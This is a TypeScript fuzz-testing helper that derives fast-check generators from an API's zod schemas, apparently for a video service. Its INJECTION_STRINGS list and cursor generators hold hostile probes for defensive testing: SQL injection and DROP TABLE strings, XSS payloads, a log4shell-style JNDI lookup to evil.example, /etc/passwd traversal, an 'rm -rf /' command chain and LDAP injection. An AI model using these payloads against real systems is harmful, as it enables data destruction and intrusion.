import fc from 'fast-check';
import type * as z from 'zod/mini';

/**
 * fast-check arbitraries derived from the API's zod schemas: values that mostly fit the schema (so
 * requests get past validation into the handlers and the database) and, mixed in, values that break it
 * in the ways clients do (wrong types, extra fields, out-of-range numbers, hostile strings).
 */
export const INJECTION_STRINGS = [
  "'; DROP TABLE videos; --",
  "' OR '1'='1",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  '$$; DROP TABLE users; $$',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, on purpose
  '{{7*7}}${7*7}<%= 7*7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, on purpose
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00%27%22',
  'a\u0000b',
  '\\u0000',
  "Robert'); DROP TABLE students;--",
  '\u202eevil\u202c',
  '🎬 vidéo ✓ 日本語',
  '\ud83d',
  '&& rm -rf / ;',
  '*)(uid=*))(|(uid=*',
  "to_tsquery('a & b')",
  ':* & ! | <->',
];

const hostileString = fc.oneof(
  fc.constantFrom(...INJECTION_STRINGS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ maxLength: 300 }),
);

type Schema = z.core.$ZodType;

function def(schema: Schema): { type: string } & Record<string, unknown> {
  return schema._zod.def as unknown as { type: string } & Record<string, unknown>;
}

/**
 * What a schema's checks add up to (lengths, bounds, whole numbers), folded from its checks the way
 * zod's JSON Schema output folds them: the API's schemas are zod/mini, which has none of classic zod's
 * `minLength`/`minValue`/`isInt` getters. A format schema such as `z.int()` is its own first check.
 */
function bounds(schema: Schema) {
  const b = { min: -Infinity, max: Infinity, isInt: false };
  const checks = schema._zod.traits.has('$ZodCheck')
    ? [schema, ...(schema._zod.def.checks ?? [])]
    : (schema._zod.def.checks ?? []);
  for (const check of checks) {
    const d = (check as z.core.$ZodCheck)._zod.def as unknown as Record<string, unknown> & { check: string };
    const value = Number(d.value);
    if (d.check === 'min_length') b.min = Math.max(b.min, Number(d.minimum));
    else if (d.check === 'max_length') b.max = Math.min(b.max, Number(d.maximum));
    else if (d.check === 'greater_than') b.min = Math.max(b.min, value);
    else if (d.check === 'less_than') b.max = Math.min(b.max, value);
    else if (d.check === 'number_format') b.isInt ||= String(d.format).includes('int');
    else if (d.check === 'multiple_of') b.isInt ||= Number.isSafeInteger(value);
  }
  return b;
}

/** A value that usually satisfies `schema` (strings sometimes hostile but in range). */
export function validArbitrary(schema: Schema): fc.Arbitrary<unknown> {
  const d = def(schema);
  switch (d.type) {
    case 'optional':
    case 'default':
      return fc.option(validArbitrary(d.innerType as Schema), { nil: undefined });
    case 'nullable':
      return fc.option(validArbitrary(d.innerType as Schema), { nil: null });
    case 'pipe':
      return validArbitrary(d.in as Schema);
    case 'string': {
      const { min: least, max: most } = bounds(schema);
      const min = Math.max(least, 0);
      const max = Math.min(most, 300);
      return fc
        .oneof(
          { weight: 3, arbitrary: fc.string({ minLength: Math.max(min, 1), maxLength: Math.max(max, 1) }) },
          { weight: 2, arbitrary: fc.constantFrom(...INJECTION_STRINGS) },
        )
        .map((value) => (value.length > max ? value.slice(0, max) : value.padEnd(min, 'x')));
    }
    case 'number': {
      const b = bounds(schema);
      const min = Math.max(b.min, -1e12);
      const max = Math.min(b.max, 1e12);
      return b.isInt ? fc.integer({ min, max }) : fc.double({ min, max, noNaN: true });
    }
    case 'boolean':
      return fc.boolean();
    case 'enum':
      return fc.constantFrom(...(schema as unknown as { options: unknown[] }).options);
    case 'literal':
      return fc.constantFrom(...(d.values as unknown[]));
    case 'array': {
      const checks =
        (d.checks as Array<{ _zod: { def: { check: string; minimum?: number; maximum?: number } } }>) ?? [];
      const minLength = checks.find((c) => c._zod.def.check === 'min_length')?._zod.def.minimum ?? 0;
      const maxLength = Math.min(
        checks.find((c) => c._zod.def.check === 'max_length')?._zod.def.maximum ?? 5,
        5,
      );
      return fc.array(validArbitrary(d.element as Schema), {
        minLength,
        maxLength: Math.max(minLength, maxLength),
      });
    }
    case 'object': {
      const shape = (schema as z.core.$ZodObject)._zod.def.shape;
      const entries = Object.entries(shape);
      const required = entries
        .filter(([, s]) => !['optional', 'default'].includes(def(s).type))
        .map(([k]) => k);
      return fc.record(
        Object.fromEntries(
          entries.map(([k, s]) => [k, k === 'cursor' ? cursorArbitrary(s) : validArbitrary(s)]),
        ),
        { requiredKeys: required },
      );
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/**
 * Pagination cursors: random strings never decode, so most of these are built the way the API builds
 * its own (base64url of `[createdAt, id]` for videos, `audit:<id>` for the audit log) with hostile
 * contents: dates anywhere in JavaScript's range (far beyond Postgres's 4713 BC .. 294276 AD), malformed
 * dates, ids that are not uuids, audit ids past the bigint range.
 */
export function cursorArbitrary(schema: Schema): fc.Arbitrary<unknown> {
  const b64 = (text: string) => Buffer.from(text).toString('base64url');
  const date = fc.oneof(
    fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
    fc.constantFrom(
      '+275760-09-13T00:00:00.000Z',
      '-271821-04-20T00:00:00.000Z',
      '-004714-11-23T00:00:00.000Z',
      '0000-01-01T00:00:00.000Z',
      '1969-12-31T23:59:59.999Z',
      '9999-12-31T23:59:59.999Z',
      '2026-13-45T99:99:99Z',
      'yesterday',
      '',
    ),
    fc.integer().map(String),
  );
  const id = fc.oneof(fc.uuid(), fc.constantFrom("' OR 1=1 --", '', '00000000-0000-0000-0000-000000000000'));
  const videoCursor = fc
    .tuple(date, id, fc.integer({ min: 0, max: 9 }))
    .map(([createdAt, uuid, shape]) =>
      b64(
        JSON.stringify(shape === 0 ? { createdAt, id: uuid } : shape === 1 ? [createdAt] : [createdAt, uuid]),
      ),
    );
  const auditCursor = fc
    .oneof(fc.bigInt({ min: 0n, max: 10n ** 19n - 1n }), fc.constantFrom(9_223_372_036_854_775_808n, 0n))
    .map((n) => b64(`audit:${n}`));
  return fc.oneof(
    { weight: 3, arbitrary: validArbitrary(schema) },
    { weight: 2, arbitrary: videoCursor },
    { weight: 1, arbitrary: auditCursor },
  );
}

/** Anything at all: valid, nearly valid (one field broken, one extra field), or arbitrary JSON. */
export function fuzzArbitrary(schema: Schema): fc.Arbitrary<unknown> {
  const valid = validArbitrary(schema);
  return fc.oneof(
    { weight: 4, arbitrary: valid },
    {
      weight: 2,
      arbitrary: fc
        .tuple(valid, fc.string({ minLength: 1, maxLength: 12 }), fc.jsonValue({ maxDepth: 3 }))
        .map(([value, key, junk]) =>
          value && typeof value === 'object' && !Array.isArray(value) ? { ...value, [key]: junk } : value,
        ),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(valid, fc.oneof(hostileString, fc.integer(), fc.constant(null), fc.jsonValue({ maxDepth: 2 })))
        .map(([value, replacement]) => {
          if (!value || typeof value !== 'object' || Array.isArray(value)) return replacement;
          const keys = Object.keys(value);
          if (keys.length === 0) return value;
          return { ...value, [keys[replacement === null ? 0 : keys.length - 1]!]: replacement };
        }),
    },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  );
}

/** Query strings and path segments are strings on the wire. */
export function asWireStrings(value: unknown): Record<string, string> {
  if (!value || typeof value !== 'object' || Array.isArray(value)) return {};
  const out: Record<string, string> = {};
  for (const [k, v] of Object.entries(value)) {
    if (v === undefined) continue;
    out[k] = typeof v === 'string' ? v : JSON.stringify(v);
  }
  return out;
}
